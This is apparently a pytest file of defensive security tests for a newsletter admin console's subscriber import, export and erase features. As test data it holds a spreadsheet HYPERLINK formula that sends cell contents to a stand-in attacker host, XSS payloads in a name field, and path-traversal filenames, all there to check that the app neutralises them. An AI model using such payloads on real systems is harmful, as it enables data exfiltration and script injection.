"""Attacks on the console's subscribers pages and /api/v1/subscribers: hostile cells in an uploaded CSV, markup in
addresses and names, an erase without its typed confirmation, another user's upload, a planted upload folder."""

from __future__ import annotations

import csv
import io
import os
import re
import time

import pytest

from newsletter import accounts, audience
from newsletter.web.console.uploads import UploadError, Uploads
from tests.console import PASSWORD, SECRET, Console, csrf, login, post

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def console(make_config):
    made = Console(make_config(f'[newsletter]\nsecret_key = "{SECRET}"\n'))
    yield made
    made.close()


def upload(client, text: str, name: str = "list.csv"):
    return client.post("/admin/subscribers/import", data={"csrf": csrf(client, "/admin/subscribers/import")},
                       files={"file": (name, text.encode(), "text/csv")})


@pytest.mark.attack(edge="console", attack="CSV upload with =HYPERLINK… and +cmd cells, exported back to a spreadsheet",
                    held="the export writes each such cell with a ' first; imported back it is as it was")
def test_formula_cells_from_an_upload_are_neutralised_in_the_export(console):
    """Names and an address that a spreadsheet would run as formulas come out of the export starting with ', and the
    export imports back to the very same values."""
    client = console.signed_in("operator")
    text = f'email,name,areas\n"+1@example.org","{FORMULA.replace(chr(34), chr(34) * 2)}",\nb@example.org,@SUM(A1),\n'
    preview = upload(client, text)
    action = re.search(r'action="(/admin/subscribers/import/[^"]+)"', preview.text)
    assert action and post(client, action.group(1), {"do": "import"}, "/admin/subscribers/import").status_code == 200
    rows = list(csv.reader(io.StringIO(client.get("/admin/subscribers/export.csv").text)))
    assert rows[1:] == [["'+1@example.org", "'" + FORMULA, ""], ["b@example.org", "'@SUM(A1)", ""]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    again = upload(client, client.get("/admin/subscribers/export.csv").text, "again.csv")
    assert "leave 2 unchanged" in " ".join(again.text.split())


@pytest.mark.attack(edge="console", attack="markup in a subscriber's name and an address with & and ' in it",
                    held="shown escaped on the list, the subscriber's page and the import preview")
def test_markup_in_names_and_addresses_is_shown_escaped(console):
    """A name of <script> and <img onerror> and an address with & and ' never reach a page as markup."""
    with console.engine.begin() as conn:
        sub = audience.add(conn, "o'neil&co@example.org", '<img src=x onerror="alert(1)"><script>alert(2)</script>',
                           "", ("LLM", "Vision", "RL", "Agents"))
    client = console.signed_in("operator")
    pages = [client.get("/admin/subscribers?q=neil").text, client.get(f"/admin/subscribers/{sub.id}").text,
             upload(client, "email,name,areas\n<b>@example.org,<i>x</i>,\n").text]
    for page in pages:
        assert "<script>alert" not in page and "<img src=x" not in page and "<i>x</i>" not in page
        assert "&lt;" in page
    assert "o&#39;neil&amp;co@example.org" in pages[0] and "o&#39;neil&amp;co@example.org" in pages[1]


@pytest.mark.attack(edge="console", attack="erase a subscriber without typing its address (a forged or hasty POST)",
                    held="400, nothing erased; the API's DELETE needs the address too")
def test_erase_without_the_typed_address_is_refused(console):
    """An erase form without the address, or with another one, erases nobody, in the console and in the API."""
    with console.engine.begin() as conn:
        sub = audience.add(conn, "keep@example.org", "Keep", "", ("LLM",))
        _, secret = accounts.create_token(conn, "ops", "operator", "t", console.clock.now())
    client = console.signed_in("operator")
    page = f"/admin/subscribers/{sub.id}"
    for typed in ({}, {"confirm": ""}, {"confirm": "other@example.org"}, {"confirm": "keep@example"}):
        assert post(client, f"{page}/erase", typed, page).status_code == 400
    headers = {"Authorization": f"Bearer {secret}"}
    assert client.request("DELETE", f"/api/v1/subscribers/{sub.id}", headers=headers, json={}).status_code == 400
    with console.engine.connect() as conn:
        assert audience.get_id(conn, sub.id) is not None


@pytest.mark.attack(edge="console", attack="importing another operator's upload by its id",
                    held="not found for anyone but its uploader; it stays theirs to import")
def test_another_users_upload_id_is_refused(console, make_config):
    """Operator B posting operator A's upload id (seen over a shoulder, in a log) gets 404 and imports nothing;
    A still can."""
    with console.engine.begin() as conn:
        accounts.add_user(conn, "bob", "operator", PASSWORD, console.clock.now())
    ada = console.signed_in("operator")
    preview = upload(ada, "email,name,areas\nvictim-import@example.org,V,\n")
    action = re.search(r'action="(/admin/subscribers/import/[^"]+)"', preview.text)
    assert action
    bob = console.client()
    login(bob, "bob", PASSWORD)
    stolen = post(bob, action.group(1), {"do": "import"}, "/admin/subscribers/import")
    assert stolen.status_code == 404 and "victim" not in stolen.text
    with console.engine.connect() as conn:
        assert audience.get(conn, "victim-import@example.org") is None
    assert post(ada, action.group(1), {"do": "import"}, "/admin/subscribers/import").status_code == 200


@pytest.mark.attack(edge="console", attack="another local user plants or opens the uploads folder",
                    held="kept files are 0600 in a 0700 folder; a folder others may write or read is refused")
def test_uploads_are_private_and_a_shared_folder_is_refused(tmp_path):
    """An upload is 0600 in a 0700 folder of its own; a folder others can read (planted before the server started)
    is refused in one line rather than written into."""
    uploads = Uploads(tmp_path / "up")
    kept = uploads.save("user:ada", io.BytesIO(b"email\na@example.org\n"), "../../etc/x.csv")
    assert kept.name == "x.csv" and oct(kept.path.stat().st_mode & 0o777) == "0o600"
    assert oct((tmp_path / "up").stat().st_mode & 0o777) == "0o700"
    assert uploads.find("user:bob", kept.id) is None and uploads.find("user:ada", "../" + kept.id) is None
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o777)
    with pytest.raises(UploadError, match="not a private folder"):
        Uploads(shared).save("user:ada", io.BytesIO(b"x"), "x.csv")
    late = Uploads(tmp_path / "up", clock=lambda: time.time() + 3601)
    assert late.find("user:ada", kept.id) is None and not kept.path.exists()
